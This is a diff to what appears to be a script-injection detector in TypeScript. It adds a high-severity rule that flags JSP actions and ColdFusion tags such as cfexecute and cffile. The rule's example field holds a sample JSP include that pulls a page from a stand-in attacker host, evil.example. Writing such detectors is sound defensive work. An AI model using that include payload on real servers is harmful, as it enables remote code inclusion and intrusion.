@@ -80,6 +80,18 @@ function isXsltCall(t: Tokens, i: number): boolean {
     t.kind[i + 3] === 0x28 && t.glued(i + 3);
 }
 
+/** `<jsp:include page="x"/>`, `<cfexecute name="id">`: what a server runs before it sends the page. */
+function isServerTag(t: Tokens, i: number): boolean {
+  if (t.kind[i - 1] !== LESS || !t.glued(i)) return false;
+  if (t.word[i] !== JSP) return t.kind[i + 1] === WORD && t.kind[i + 2] === EQUALS;
+  return t.kind[i + 1] === 0x3a && t.glued(i + 1) && t.glued(i + 2) && JSP_ACTIONS.has(t.word[i + 2] as number);
+}
+const JSP = word("jsp");
+const JSP_ACTIONS = new Set(
+  ["include", "forward", "usebean", "directive", "scriptlet", "declaration", "expression", "getproperty", "setproperty"]
+    .map(word),
+);
+
 /** Code in markup, for a server or a parser. */
 export const SERVER_MARKUP = {
   code: {
@@ -92,6 +104,17 @@ export const SERVER_MARKUP = {
     weak: true,
     at: ["<!", "<?", "<%", "<#"],
     test: isServerMarkup,
+  },
+  tag: {
+    name: "script-server-tag",
+    category: "script-injection",
+    severity: "high",
+    catches: "Actions of JSP and tags of ColdFusion that a server runs",
+    example: '<jsp:include page="http://evil.example/x"/>',
+    nearMiss: "<jsp> jsp: include <b>cfinclude</b>",
+    at: ["jsp", "cfexecute", "cfinclude", "cffile"].map(word),
+    gate: "markup",
+    test: isServerTag,
   },
   xslt: {
     name: "script-xslt-call",
